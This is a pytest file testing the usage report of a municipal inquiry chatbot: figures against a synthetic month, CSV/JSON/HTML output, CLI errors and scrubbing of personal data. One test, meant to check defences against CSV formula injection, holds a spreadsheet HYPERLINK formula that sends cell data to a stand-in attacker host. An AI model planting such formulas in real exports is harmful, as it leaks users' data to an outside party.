"""The report against the known ground truth of a synthetic month; CLI behaviour; privacy."""
import csv
import io
import json
import re
import shutil
import sqlite3
from dataclasses import replace
from datetime import date, timedelta

import pytest

from benchmarks.synthetic_month import DEMO_BASELINE, generate_month, write_demo_ledger
from bot.answering.answer import Answer
from bot.insights.inquiry_log import InquiryLog
from bot.insights.ledger import load_ledger_config
from bot.insights.report import ReportError, build_report, group_similar_questions
from bot.insights.report_render import render_csv, render_html, render_json
from channels.cli import main

# The shipped defaults, written out here so the test does not lean on the code under test.
MINUTES = {"line": 6, "web": 6, "slack": 4, "cli": 0}
NO_FEEDBACK_WEIGHT = 0.5
OCTOBER = ("2026-10-01", "2026-10-31")


def minutes_for(channel, category):
    return MINUTES[channel]


@pytest.fixture(scope="module")
def month(tmp_path_factory):
    data_dir = tmp_path_factory.mktemp("month")
    truth = generate_month(data_dir, 2026, 10, seed=7)
    return data_dir, truth


@pytest.fixture(scope="module")
def report(month):
    data_dir, _ = month
    return build_report(data_dir, *OCTOBER, config=load_ledger_config(environ={}))


@pytest.fixture
def run(capsys, monkeypatch):
    monkeypatch.delenv("MADOGUCHI_LEDGER_CONFIG", raising=False)

    def run(*argv):
        status = main(list(argv))
        out, err = capsys.readouterr()
        return status, out, err
    return run


# --- figures equal the ground truth -----------------------------------------------------------

def test_the_synthetic_month_is_realistic(month):
    _, truth = month
    assert 1000 < truth.total < 2000
    assert set(truth.by_channel) == {"line", "web", "slack", "cli"}
    assert 0.75 < truth.answered / truth.total < 0.92
    assert truth.resolved > truth.unresolved > 0 and truth.escalated > 0
    assert truth.personal_data  # some questions and comments carried personal data
    saturday = truth.by_day["2026-10-03"]
    assert "slack" not in saturday and saturday["line"] > 0  # staff do not work at weekends


def test_the_synthetic_month_is_deterministic(month, tmp_path):
    _, truth = month
    assert generate_month(tmp_path, 2026, 10, seed=7).to_dict() == truth.to_dict()


def test_totals_equal_the_ground_truth(report, month):
    _, truth = month
    assert report.total_inquiries == truth.total
    assert report.by_channel == truth.by_channel
    assert (report.answered, report.abstained) == (truth.answered, truth.abstained)
    assert (report.resolved, report.unresolved) == (truth.resolved, truth.unresolved)
    assert (report.no_feedback, report.escalated) == (truth.no_feedback, truth.escalated)
    assert report.answered + report.abstained == report.total_inquiries


def test_per_channel_figures_equal_the_ground_truth(report, month):
    _, truth = month
    for channel in report.channels:
        outcomes = truth.outcome_counts(channel["channel"])
        assert channel["total"] == truth.by_channel[channel["channel"]]
        assert channel["abstained"] == outcomes.get("abstained", 0)
        assert channel["answered"] == sum(n for k, n in outcomes.items() if k != "abstained")
        assert channel["no_feedback"] == outcomes.get("no_feedback", 0)


def test_every_day_equals_the_ground_truth(report, month):
    _, truth = month
    assert [d["date"] for d in report.daily] == [
        (date(2026, 10, 1) + timedelta(days=i)).isoformat() for i in range(31)]
    for day in report.daily:
        expected = truth.by_day.get(day["date"], {})
        assert {c: n for c, n in day["by_channel"].items() if n} == expected, day["date"]
        assert day["total"] == sum(expected.values())


def test_weeks_run_monday_to_sunday_and_add_up(report, month):
    _, truth = month
    weeks = report.weekly
    assert weeks[0]["week_start"] == "2026-10-01" and weeks[0]["week_end"] == "2026-10-04"  # Thu..Sun
    assert all(date.fromisoformat(w["week_start"]).weekday() == 0 for w in weeks[1:])
    assert weeks[-1]["week_end"] == "2026-10-31" and weeks[-1]["days"] == 6
    assert sum(w["total"] for w in weeks) == truth.total
    assert sum(w["by_channel"]["line"] for w in weeks) == truth.by_channel["line"]
    assert sum(w["minutes_saved"] for w in weeks) == pytest.approx(report.minutes_saved)
    (october,) = report.monthly
    assert (october["month"], october["days"], october["total"]) == ("2026-10", 31, truth.total)
    assert october["minutes_saved"] == report.minutes_saved


def test_categories_and_departments_equal_the_ground_truth(report, month):
    _, truth = month
    assert {c["category"]: c["total"] for c in report.categories} == truth.by_category
    assert {d["department"]: d["total"] for d in report.departments} == truth.by_department
    totals = [c["total"] for c in report.categories]
    assert totals == sorted(totals, reverse=True)


def test_minutes_saved_follow_the_formula(report, month):
    _, truth = month
    expected = truth.minutes_saved(minutes_for, NO_FEEDBACK_WEIGHT)
    assert report.minutes_saved == expected > 0
    assert report.hours_saved == round(expected / 60, 1)
    assert report.ledger["minutes_saved_lower"] == truth.minutes_saved(minutes_for, 0.0)
    assert report.ledger["minutes_saved_upper"] == truth.minutes_saved(minutes_for, 1.0)
    assert "解決した＝1" in report.formula and "評価なし＝0.5" in report.formula and "LINE 6分" in report.formula


def test_rates_use_the_documented_denominators(report, month):
    _, truth = month
    rated = truth.resolved + truth.unresolved
    assert report.rates["answer_rate"] == round(truth.answered / truth.total, 4)
    assert report.rates["abstain_rate"] == round(truth.abstained / truth.total, 4)
    assert report.rates["resolution_rate"] == round(truth.resolved / rated, 4)
    assert report.rates["unresolved_rate"] == round(truth.unresolved / rated, 4)
    assert report.rates["feedback_rate"] == round(rated / truth.total, 4)


def test_reduction_against_the_target_with_a_measured_baseline(month):
    data_dir, truth = month
    config = replace(load_ledger_config(environ={}), department_baseline=DEMO_BASELINE)
    baseline = build_report(data_dir, *OCTOBER, config=config).ledger["baseline"]
    saved = {name: truth.minutes_saved(minutes_for, NO_FEEDBACK_WEIGHT, department=name) for name in DEMO_BASELINE}
    assert baseline["baseline_minutes"] == sum(DEMO_BASELINE.values())  # a whole month
    assert baseline["minutes_saved"] == pytest.approx(sum(saved.values()))
    assert baseline["reduction"] == round(sum(saved.values()) / sum(DEMO_BASELINE.values()), 4)
    for row in baseline["departments"]:
        assert row["reduction"] == round(saved[row["department"]] / DEMO_BASELINE[row["department"]], 4)
        assert row["achieved"] == (row["reduction"] >= 0.2)


def test_unanswered_and_unresolved_questions_are_grouped(report):
    top = report.unanswered_questions
    assert top and all(g["count"] >= top[i + 1]["count"] for i, g in enumerate(top[:-1]))
    assert sum(g["count"] for g in top) <= report.abstained
    parking = next(g for g in top if "駐輪場" in g["question"])
    assert any("駐輪場" in v for v in parking["variants"])  # two phrasings, one group
    assert report.unresolved_questions and "comments" in report.unresolved_questions[0]


def test_similar_questions_group_together():
    rows = [{"question": q, "channel": "line"} for q in
            ["粗大ごみの出し方を教えてください", "粗大ごみはどう出せばいいですか？", "粗大ごみの出し方を教えてください。",
             "そだいごみの出し方", "駐輪場の定期券はどこで買えますか", "090-1234-5678 駐輪場の定期券はどこで買えますか"]]
    groups = group_similar_questions(rows)
    assert [g["count"] for g in groups] == [4, 2]
    assert groups[0]["question"] == "粗大ごみの出し方を教えてください"
    assert all("090-1234-5678" not in json.dumps(g, ensure_ascii=False) for g in groups)


# --- outputs carry the same numbers -----------------------------------------------------------

def test_json_has_the_keys_other_tools_read(report, month):
    _, truth = month
    data = json.loads(render_json(report))
    for key in ("total_inquiries", "by_channel", "answered", "abstained", "resolved", "unresolved",
                "minutes_saved", "formula"):
        assert key in data
    assert data["total_inquiries"] == truth.total and data["by_channel"] == truth.by_channel
    assert data["minutes_saved"] == report.minutes_saved


def test_inquiries_by_language_in_json_csv_and_html(tmp_path):
    log = InquiryLog(tmp_path, user_key_secret="s")
    asked = [("粗大ごみの出し方は？", "ja", False), ("How do I put out large garbage?", "en", False),
             ("Where is the tax office?", "en", True), ("大型垃圾怎么扔？", "zh-Hans", False)]
    for question, language, abstained in asked:
        log.record(Answer(question=question, text="…", abstained=abstained, confidence=0.5, audience="citizen",
                          kind="abstain" if abstained else "answer", language=language),
                   channel="line", asked_at="2026-10-05T10:00:00+09:00")
    log.close()
    report = build_report(tmp_path, "2026-10-01", "2026-10-31", config=load_ledger_config(environ={}))
    assert json.loads(render_json(report))["by_language"] == {"en": 2, "ja": 1, "zh-Hans": 1}
    english = next(item for item in report.languages if item["language"] == "en")
    assert (english["answered"], english["abstained"]) == (1, 1)
    table = list(csv.DictReader(io.StringIO(render_csv(report))))
    assert {r["key"]: int(r["value"]) for r in table
            if r["section"] == "by_language" and r["metric"] == "total"} == report.by_language
    html = render_html(report)
    assert "質問の言語" in html and "英語（en）" in html


def test_csv_carries_the_same_numbers(report):
    table = list(csv.DictReader(io.StringIO(render_csv(report))))
    summary = {r["metric"]: r["value"] for r in table if r["section"] == "summary"}
    assert int(summary["total_inquiries"]) == report.total_inquiries
    for metric in ("answered", "abstained", "resolved", "unresolved"):
        assert int(summary[metric]) == getattr(report, metric)
    assert float(summary["minutes_saved"]) == report.minutes_saved
    assert {r["key"]: int(r["value"]) for r in table if r["section"] == "by_channel"} == report.by_channel
    daily = {(r["key"], r["metric"]): int(r["value"]) for r in table if r["section"] == "daily"}
    for day in report.daily:
        assert daily[(day["date"], "total")] == day["total"]
    assert next(r["value"] for r in table if r["section"] == "formula") == report.formula
    assert render_csv(report, bom=True).startswith("\ufeffsection,")


def test_html_is_self_contained_japanese_and_shows_the_figures(report):
    page = render_html(report)
    assert page.startswith("<!DOCTYPE html>") and '<html lang="ja">' in page
    assert "<script" not in page.lower()
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page)  # nothing fetched: offline, no CDN
    assert page.count("<svg") >= 5
    assert "問い合わせ件数" in page and "回答できなかった質問" in page and "削減できた職員の時間" in page
    assert f"{report.total_inquiries:,}" in page and f"{report.minutes_saved:,.0f}分" in page
    assert report.formula in page
    assert "@media print" in page
    fragment = render_html(report, standalone=False)
    assert "<html" not in fragment and "<article" in fragment


def test_html_with_a_baseline_shows_the_target(month):
    data_dir, _ = month
    config = replace(load_ledger_config(environ={}), department_baseline=DEMO_BASELINE)
    page = render_html(build_report(data_dir, *OCTOBER, config=config))
    assert "目標 20%" in page and "削減率" in page and "市民課" in page


def test_no_personal_data_in_the_database_files_or_any_output(report, month):
    data_dir, truth = month
    on_disk = b"".join(p.read_bytes() for p in sorted(data_dir.rglob("*")) if p.is_file())
    outputs = render_html(report) + render_csv(report) + render_json(report)
    assert len(truth.personal_data) > 10
    for raw in truth.personal_data:
        assert raw.encode() not in on_disk and raw.replace("-", "").encode() not in on_disk
        assert raw not in outputs
    assert "〔電話番号〕".encode() in on_disk and "〔マイナンバー〕".encode() in on_disk and "〔メール〕" in outputs


# --- empty periods, defaults and sources ------------------------------------------------------

def test_an_empty_period_is_a_clear_empty_report(month):
    data_dir, _ = month
    empty = build_report(data_dir, "2026-12-01", "2026-12-31", config=load_ledger_config(environ={}))
    assert empty.empty and empty.total_inquiries == 0 and empty.minutes_saved == 0
    assert empty.rates["answer_rate"] is None and empty.rates["resolution_rate"] is None
    assert len(empty.daily) == 31 and all(d["total"] == 0 for d in empty.daily)
    assert "この期間の問い合わせはありません" in render_html(empty)
    assert json.loads(render_json(empty))["total_inquiries"] == 0
    assert "total_inquiries,0" in render_csv(empty)


def test_an_empty_data_dir_gives_an_empty_report_without_creating_a_database(tmp_path):
    empty = build_report(tmp_path)
    assert empty.empty and empty.period["days"] == 1
    assert not (tmp_path / "madoguchi.db").exists()


def test_default_period_spans_the_logged_inquiries(month):
    data_dir, truth = month
    whole = build_report(data_dir, config=load_ledger_config(environ={}))
    assert (whole.period["from"], whole.period["to"]) == OCTOBER
    assert whole.total_inquiries == truth.total


def test_days_are_local_days(tmp_path):
    log = InquiryLog(tmp_path, user_key_secret="k")
    answer = Answer(question="早朝の質問", text="", abstained=False, confidence=0.9, audience="citizen")
    log.record(answer, channel="line", asked_at="2026-10-01T07:30:00+09:00")  # 2026-09-30 22:30 UTC
    log.record(answer, channel="line", asked_at="2026-10-31T23:59:00+09:00")
    log.record(answer, channel="line", asked_at="2026-11-01T00:01:00+09:00")
    report = build_report(tmp_path, *OCTOBER, config=load_ledger_config(environ={}))
    assert report.total_inquiries == 2
    assert report.daily[0]["total"] == 1 and report.daily[-1]["total"] == 1


def test_sources_can_be_a_log_or_a_database(month):
    data_dir, truth = month
    log = InquiryLog(data_dir)
    config = load_ledger_config(environ={})
    assert build_report(log, *OCTOBER, config=config).total_inquiries == truth.total
    assert build_report(log.db, *OCTOBER, config=config).total_inquiries == truth.total


@pytest.mark.parametrize("date_from,date_to,message", [
    ("2026-13-01", None, "--from"), ("2026/10/01", None, "--from"), ("yesterday", None, "--from"),
    (None, "2026-02-30", "--to"), ("2026-10-31", "2026-10-01", "after"),
])
def test_bad_dates_raise_a_clear_error(month, date_from, date_to, message):
    data_dir, _ = month
    with pytest.raises(ReportError, match=message):
        build_report(data_dir, date_from, date_to)


# --- the CLI ----------------------------------------------------------------------------------

def test_cli_report_json_on_stdout(run, month):
    data_dir, truth = month
    status, out, err = run("--data-dir", str(data_dir), "report", "--from", OCTOBER[0], "--to", OCTOBER[1],
                           "--format", "json")
    assert status == 0
    data = json.loads(out)
    assert data["total_inquiries"] == truth.total and data["by_channel"] == truth.by_channel
    assert data["minutes_saved"] == truth.minutes_saved(minutes_for, NO_FEEDBACK_WEIGHT)


@pytest.mark.parametrize("fmt,check", [
    ("html", lambda text: text.startswith("<!DOCTYPE html>")),
    ("csv", lambda text: text.startswith("\ufeffsection,key,metric,value")),
    ("json", lambda text: json.loads(text)["total_inquiries"] > 0),
])
def test_cli_report_to_a_file(run, month, tmp_path, fmt, check):
    data_dir, _ = month
    out_file = tmp_path / "out" / f"report.{fmt}"
    status, out, err = run("--data-dir", str(data_dir), "report", "--from", OCTOBER[0], "--to", OCTOBER[1],
                           "--out", str(out_file))  # the format follows the suffix
    assert status == 0 and out == "" and str(out_file) in err
    assert check(out_file.read_text(encoding="utf-8"))


def test_cli_report_uses_the_ledger_file_in_the_data_dir(run, month, tmp_path):
    data_dir, _ = month
    copy = tmp_path / "data"
    shutil.copytree(data_dir, copy)
    write_demo_ledger(copy)
    status, out, _ = run("--data-dir", str(copy), "report", "--format", "json")
    assert status == 0 and json.loads(out)["ledger"]["baseline"]["departments"]


def test_cli_empty_period_is_not_an_error(run, month):
    data_dir, _ = month
    status, out, err = run("--data-dir", str(data_dir), "report", "--from", "2027-01-01", "--to", "2027-01-31",
                           "--format", "json")
    assert status == 0 and json.loads(out)["total_inquiries"] == 0


@pytest.mark.parametrize("args,needle", [
    (["--from", "2026-13-01"], "--from"),
    (["--to", "31/10/2026"], "--to"),
    (["--from", "2026-10-31", "--to", "2026-10-01"], "after"),
])
def test_cli_bad_dates_exit_2_with_one_line(run, month, args, needle):
    data_dir, _ = month
    status, out, err = run("--data-dir", str(data_dir), "report", *args)
    assert status == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith("madoguchi: error:") and needle in err


def test_cli_bad_ledger_config_exits_2_naming_the_key(month, tmp_path, monkeypatch, capsys):
    data_dir, _ = month
    bad = tmp_path / "ledger.toml"
    bad.write_text('[minutes.channel]\nline = "six"\n', encoding="utf-8")
    monkeypatch.setenv("MADOGUCHI_LEDGER_CONFIG", str(bad))
    assert main(["--data-dir", str(data_dir), "report"]) == 2
    err = capsys.readouterr().err
    assert "minutes.channel.line" in err and str(bad) in err and err.count("\n") == 1


def test_cli_missing_data_dir_exits_2(run, tmp_path):
    status, _, err = run("--data-dir", str(tmp_path / "nope"), "report")
    assert status == 2 and "not found" in err


# --- madoguchi ask logs on the cli channel ----------------------------------------------------

def _logged(data_dir):
    connection = sqlite3.connect(data_dir / "madoguchi.db")
    try:
        return connection.execute("select channel, question from inquiries").fetchall()
    except sqlite3.OperationalError:  # no inquiries table: nothing was logged
        return []
    finally:
        connection.close()


def test_ask_logs_one_row_on_the_cli_channel(run, fresh_data_dir, monkeypatch):
    monkeypatch.setenv("MADOGUCHI_USER_KEY_SECRET", "test")
    before = len(_logged(fresh_data_dir))
    status, out, _ = run("--data-dir", str(fresh_data_dir), "ask", "粗大ごみの出し方は？ 090-1234-5678")
    assert status == 0 and out
    logged = _logged(fresh_data_dir)
    assert len(logged) == before + 1
    assert logged[-1] == ("cli", "粗大ごみの出し方は？ 〔電話番号〕")


def test_ask_no_log_logs_nothing(run, fresh_data_dir):
    before = len(_logged(fresh_data_dir))
    status, out, _ = run("--data-dir", str(fresh_data_dir), "ask", "粗大ごみの出し方は？", "--no-log", "--json")
    assert status == 0 and json.loads(out)["inquiry_id"] is None
    assert len(_logged(fresh_data_dir)) == before


# --- tickets (questions handed to staff) ------------------------------------------------------------

def test_ticket_figures_equal_the_ground_truth(month):
    import statistics

    from bot.handoff.store import TicketStore

    data_dir, truth = month
    config = load_ledger_config(environ={})
    store = TicketStore(data_dir)
    try:
        report = build_report(data_dir, *OCTOBER, config=config, tickets=store.rows)
    finally:
        store.close()
    tickets = report.tickets
    assert truth.tickets_opened > 10 and truth.tickets_answered > 5
    assert (tickets["opened"], tickets["answered"], tickets["declined"], tickets["expired"], tickets["open"]) == (
        truth.tickets_opened, truth.tickets_answered, truth.tickets_declined, truth.tickets_expired,
        truth.tickets_open)
    assert tickets["median_minutes_to_answer"] == round(statistics.median(truth.ticket_minutes_to_answer), 1)
    expected_staff = truth.ticket_staff_minutes(config.minutes_for_ticket)
    assert tickets["staff_minutes"] == expected_staff
    assert tickets["net_minutes_saved"] == round(report.minutes_saved - expected_staff, 1)
    # Escalated inquiries keep weight 0: the minutes saved are the same with tickets or without.
    assert report.minutes_saved == build_report(data_dir, *OCTOBER, config=config).minutes_saved
    assert {d["department"]: d["opened"] for d in tickets["by_department"]} == {
        d: n for d, (n, _) in truth.tickets_by_department.items()}
    custom = load_ledger_config(environ={}, path=_ledger_file(data_dir, {"市民課": 30.0}))
    store = TicketStore(data_dir)
    try:
        again = build_report(data_dir, *OCTOBER, config=custom, tickets=store.rows)
    finally:
        store.close()
    assert again.tickets["staff_minutes"] == truth.ticket_staff_minutes(custom.minutes_for_ticket)
    from bot.insights.report_render import render_csv, render_html
    assert "職員への引き継ぎ" in render_html(again) and "tickets,,opened," in render_csv(again)


def _ledger_file(data_dir, departments: dict):
    path = data_dir / "ledger-tickets.toml"
    path.write_text("[tickets]\nminutes = 12.0\n[tickets.department]\n"
                    + "".join(f'"{name}" = {minutes}\n' for name, minutes in departments.items()), encoding="utf-8")
    return path


def test_messages_that_ask_nothing_count_but_are_not_listed_as_unanswered_questions(tmp_path):
    log = InquiryLog(tmp_path, user_key_secret="s")
    for text, kind in (("ありがとう", "small_talk"), ("死にたい", "crisis"), ("", "empty"),
                       ("ドローンの飛行許可は？", "abstain"), ("ドローンの飛行許可は？", "abstain")):
        log.record(Answer(question=text, text="…", abstained=True, confidence=0.0, audience="citizen", kind=kind),
                   "web")
    log.close()
    log = InquiryLog(tmp_path, user_key_secret="s")
    log.record(Answer(question="粗大ごみの出し方", text="…", abstained=False, confidence=0.9, audience="citizen",
                      kind="answer"), "web")
    log.close()
    report = build_report(tmp_path, config=load_ledger_config(environ={}))
    assert report.abstained == 5
    assert [(g["question"], g["count"]) for g in report.unanswered_questions] == [("ドローンの飛行許可は？", 2)]
    # The rate of questions answered leaves out what asks nothing: 1 answered of 3 questions, beside 1 of 6.
    assert report.rates["answer_rate"] == round(1 / 6, 4) and report.rates["question_answer_rate"] == round(1 / 3, 4)
    assert "あいさつ等を除いた質問への回答率 33.3%" in render_html(report)


def test_a_question_written_as_a_spreadsheet_formula_stays_text_in_the_csv(tmp_path):
    log = InquiryLog(tmp_path, user_key_secret="s")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"クリック")'
    for text in (formula, formula, "@SUM(1+1)", "@SUM(1+1)"):
        log.record(Answer(question=text, text="…", abstained=True, confidence=0.0, audience="citizen", kind="abstain"),
                   "web")
    log.close()
    rows = list(csv.reader(io.StringIO(render_csv(build_report(tmp_path, config=load_ledger_config(environ={}))))))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)


def test_a_row_stamped_by_a_reset_clock_does_not_stretch_the_default_period_past_its_limit(tmp_path):
    from bot.insights.report import MAX_REPORT_DAYS

    log = InquiryLog(tmp_path, user_key_secret="s")
    for asked_at in ("1970-01-01T09:00:00+09:00", "2026-04-01T10:00:00+09:00"):
        log.record(Answer(question="粗大ごみ", text="…", abstained=False, confidence=0.9, audience="citizen",
                          kind="answer"), "web", asked_at=asked_at)
    log.close()
    config = load_ledger_config(environ={})
    report = build_report(tmp_path, config=config)
    assert report.period["to"] == "2026-04-01" and report.period["days"] == MAX_REPORT_DAYS
    assert build_report(tmp_path, "2016-01-01", config=config).period["days"] == MAX_REPORT_DAYS
    assert build_report(tmp_path, None, "2026-04-01", config=config).period["days"] == MAX_REPORT_DAYS
